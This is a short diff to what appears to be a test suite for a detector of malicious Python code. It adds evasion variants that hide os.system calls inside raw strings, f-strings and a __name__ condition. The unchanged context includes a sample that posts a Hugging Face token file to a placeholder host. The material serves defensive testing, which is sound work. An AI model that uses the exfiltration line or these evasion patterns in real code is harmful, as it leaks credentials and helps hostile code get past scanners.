@@ -385,6 +385,9 @@ def leftovers():
         "import os\nos.__dict__.get('system')('echo')", "import ctypes\nctypes.CDLL(None).system(b'echo')",
         "import code\ncode.InteractiveInterpreter().runsource('x')",
         "import requests\nrequests.post('http://h.invalid', data=open('/root/.cache/huggingface/token').read())",
+        "import os\nx = rf'\\\\'; os.system('echo') #'",
+        'import os\nx = f\'\\{os.system("echo")}\'',
+        "import os\nif __name__ != '__main__':\n    os.system('echo')",
     ]):
         add("malicious", f"import-{number}.py", line + "\n")
 
